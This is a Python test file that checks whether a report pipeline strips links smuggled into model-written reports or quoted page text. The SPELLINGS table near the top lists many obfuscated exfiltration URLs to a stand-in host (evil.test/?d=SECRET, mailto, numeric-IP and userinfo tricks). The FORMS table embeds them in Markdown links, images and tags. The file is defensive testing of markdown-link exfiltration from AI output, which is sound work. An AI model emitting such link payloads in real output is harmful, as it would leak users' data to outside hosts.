"""Whole reports with links that could carry something out: none is left, in whatever spelling and place."""

import json
import re
from html import unescape
from typing import Any

import pytest
from markdown_it import MarkdownIt

from activities.roles.untrusted import label_key, label_of
from contracts.evidence import Gap
from contracts.outcome import AgentDecision
from contracts.vocabulary import AgentRole, EngineKind, GapStatus, Phase
from tests.unit.activities.reporting.page import Page
from tests.unit.activities.reporting.whole import Whole, World

URL = "https://first.test/page?id=7"
BOTH = {URL, "https://b.test/"}
SPELLINGS = {
    "plain": "https://evil.test/?d=SECRET",
    "upper case": "HTTPS://EVIL.TEST/?d=SECRET",
    "decimal entity": "http&#58;//evil.test/?d=SECRET",
    "hexadecimal entity": "http&#x3a;//evil.test/?d=SECRET",
    "named entity": "http&colon;//evil.test/?d=SECRET",
    "entities for slashes": "http:&#x2f;&#47;evil.test/?d=SECRET",
    "named slashes": "http:&sol;&sol;evil.test/?d=SECRET",
    "entity in the scheme": "h&#116;tp://evil.test/?d=SECRET",
    "entity in the host": "http://&#101;vil.test/?d=SECRET",
    "backslashes": "http:\\\\evil.test/?d=SECRET",
    "doubled backslashes": "http:\\\\\\\\evil.test/?d=SECRET",
    "mixed slashes": "https:/\\evil.test/?d=SECRET",
    "one slash": "https:/evil.test/?d=SECRET",
    "one backslash": "https:\\evil.test/?d=SECRET",
    "no slash": "https:evil.test/?d=SECRET",
    "many slashes": "https:////evil.test/?d=SECRET",
    "escaped colon": "http\\://evil.test/?d=SECRET",
    "escaped slash": "http:\\/\\/evil.test/?d=SECRET",
    "user": "https://first.test@evil.test/?d=SECRET",
    "user and password": "https://user:x@evil.test/?d=SECRET",
    "own host as user": "https://first.test:443@evil.test/?d=SECRET",
    "no scheme": "//evil.test/?d=SECRET",
    "no scheme, backslashes": "\\\\\\\\evil.test/?d=SECRET",
    "www": "www.evil.test/?d=SECRET",
    "bare host": "evil.com/?d=SECRET",
    "bare host with entity": "evil&period;com/?d=SECRET",
    "other scheme": "ftp://evil.test/?d=SECRET",
    "socket": "wss://evil.test/?d=SECRET",
    "mail": "mailto:SECRET@evil.com",
    "bare mail": "SECRET@evil.com",
    "address of numbers": "http://2130706433/?d=SECRET",
    "address in brackets": "//[::1]/?d=SECRET",
    "own page, another query": f"{URL}&d=SECRET",
    "own page, tracking": f"{URL}&utm_source=SECRET",
    "own page, session": "https://first.test/page;jsessionid=SECRET?id=7",
    "own page, fragment": f"{URL}#SECRET",
    "own page, user": "https://SECRET@first.test/page?id=7",
}
FORMS = {
    "bare": "See {} now.",
    "link": "See [it]({}) now.",
    "link in angle brackets": "See [it](<{}>) now.",
    "link with title": "See [it]({} 'SECRET') now.",
    "image": "![it]({})",
    "image in link": "[![it]({})]({})",
    "autolink": "See <{}> now.",
    "reference": "See [it][ref] now.\n\n[ref]: {}",
    "quoted reference": "See [ref] now.\n\n> [ref]: <{}>",
    "tag": '<a href="{}">it</a>',
    "emphasis": "See **{}** and _{}_ now.",
    "cell": "| a | b |\n|---|---|\n| {} | [it]({}) |",
    "heading": "## See {} and [it]({})",
    "list": "- {}\n- [it]({})",
    "code": "`{}`",
    "link after escape": "\\[it]({}) \\\\[it]({})",
    "link over lines": "[it\nit](\n{}\n)",
}
RENDERERS = [
    MarkdownIt("commonmark", {"html": False, "linkify": True}).enable(["table", "linkify"]),
    MarkdownIt("gfm-like", {"html": True}),
]
FOLLOWED = re.compile(r"(?:https?|ftps?|wss?):[/\\]*[\w\[]|(?<![:\w/\\])[/\\]{2}[\w-]+\.|\bwww\.", re.IGNORECASE)
"""What a browser would follow, however the slashes lie."""


def targets(markdown: str) -> set[str]:
    """Where the links and images of a Markdown text lead, by parsers that make links of bare addresses."""
    found = set()
    for renderer in RENDERERS:
        for token in renderer.parse(markdown):
            for child in token.children or []:
                # A sign of emphasis behind a bare address is taken for a part of it by some.
                found |= {str(value).rstrip("_*") for name, value in child.attrs.items() if name in ("href", "src")}
            assert token.type != "html_block"
            assert not any(child.type == "html_inline" for child in token.children or [])
    return found


def texts(value: Any, path: str = "") -> dict[str, str]:
    """Every text of a JSON value by its path."""
    if isinstance(value, str):
        return {path: value}
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return {key: text for name, item in items for key, text in texts(item, f"{path}/{name}").items()}


def check(whole: Whole, allowed: set[str]) -> None:
    """No form of a report leads anywhere but to the registered addresses."""
    assert whole.audited.problems == []
    assert targets(whole.rendering.markdown) <= allowed
    page = Page(whole.rendering.html)
    assert {link for link in page.links if not link.startswith("#")} <= allowed
    for tag, attributes in page.tags:
        assert tag not in ("img", "iframe", "form", "object", "base", "link"), tag
        assert not attributes.keys() & {"src", "action", "style"}
    for path, text in texts(json.loads(whole.rendering.document)).items():
        if re.match(r"/(?:evidence/\d+/(?:quote|prefix|suffix)|effective_request|query)", path):
            continue
        left = re.sub(
            "|".join(map(re.escape, sorted(allowed, key=len, reverse=True))), "", unescape(text.replace("\\&", "&amp;"))
        )
        assert not FOLLOWED.search(left), (path, text)


def each_apart(spelled: str) -> str:
    """A text with an address in every form: a section for each, and a fact behind it that ends what a form opens."""
    sections = (FORMS[form].replace("[ref]", f"[ref{n}]") for n, form in enumerate(FORMS))
    return "\n\n".join(f"## Part\n\n{words.replace('{}', spelled)}\n\nAnother fact [MARKER]." for words in sections)


@pytest.mark.parametrize("name", SPELLINGS)
async def test_no_link_of_a_model_carries_anything_out(name: str) -> None:
    """Whatever a model writes, its report links to registered addresses in their own spelling, and says no SECRET."""
    world = World.of(
        "The first page says a true thing.", "The second page says another.", urls=(URL, "https://b.test/")
    )
    marker = label_of(world.evidence[0].id, label_key(world.request(EngineKind.MODEL)))
    words = each_apart(SPELLINGS[name]).replace("MARKER", marker)
    whole = await world.written(f"# T\n\nA fact [{marker}].\n\n{words}\n")
    assert whole.rendering.markdown.count("Another fact") >= len(FORMS)
    check(whole, BOTH)
    # What is in code stays as it is written; a backslash in it makes no address.
    if name not in ("bare host", "bare host with entity", "escaped colon", "no scheme, backslashes"):
        assert "SECRET" not in whole.rendering.markdown
        assert "SECRET" not in whole.rendering.html


@pytest.mark.parametrize("name", SPELLINGS)
async def test_no_words_of_a_page_carry_anything_out(name: str) -> None:
    """An address in a quotation, a title, a heading, a gap, a reason, a limit or a decision is no link in any form."""
    spelled = SPELLINGS[name]
    page = f"Vacuum prevents wraparound, see {spelled} or [this]({spelled}) in every table of it."
    world = World.of(
        page, "Vacuum freezes old rows of a table.", urls=(URL, "https://b.test/"), titles=(f"A {spelled}", "B")
    )
    source = world.sources[0].model_copy(update={"quality_reason": f"said {spelled}", "authors": [spelled]})
    evidence = world.evidence[0].model_copy(update={"heading": f"[Head]({spelled})"})
    world = World([source, world.sources[1]], [evidence, world.evidence[1]], world.texts)
    changes = {
        "gaps": [Gap(id="gap-1", description=f"Ask {spelled} [x]({spelled})", status=GapStatus.OPEN)],
        "limitations": [f"Not {spelled}"],
        "degraded": [f"Lost {spelled}"],
        "decisions": [
            AgentDecision(
                seq=1,
                agent=AgentRole.SUPERVISOR,
                action="proceed",
                phase=Phase.PLANNING,
                rationale=f"For {spelled} and [this]({spelled})",
                timestamp="2026-11-21T20:15:05+00:00",
            )
        ],
    }
    check(await world.extractive(**changes), BOTH)
